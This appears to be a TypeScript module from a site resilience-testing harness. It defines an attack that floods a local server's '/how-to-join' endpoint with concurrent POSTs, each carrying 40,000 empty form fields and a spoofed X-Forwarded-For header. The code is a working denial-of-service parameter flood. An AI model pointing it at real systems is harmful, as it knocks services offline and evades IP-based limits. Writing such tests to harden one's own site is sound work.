import { request } from 'node:http';
import type { Attack, Target } from './attack.ts';

/** Form body with as many fields as fit into one request. */
const body = 'a=&'.repeat(40_000);

export const manyFields: Attack = {
  name: 'forms with tens of thousands of fields',
  async run(site, lasts) {
    const end = performance.now() + lasts;
    const sender = async () => {
      while (performance.now() < end) await send(site);
    };
    await Promise.all(Array.from({ length: 30 }, sender));
    return {};
  },
};

function send({ url }: Target): Promise<void> {
  return new Promise((done) => {
    const headers = {
      ...{ 'content-type': 'application/x-www-form-urlencoded', 'content-length': body.length },
      ...{ 'x-forwarded-for': '203.0.113.66', accept: 'text/html' },
    };
    const { port } = new URL(url);
    request(
      { host: '127.0.0.1', port, agent: false, path: '/how-to-join', method: 'POST', headers },
      (response) => response.resume().once('close', done),
    )
      .once('error', () => done())
      .end(body);
  });
}
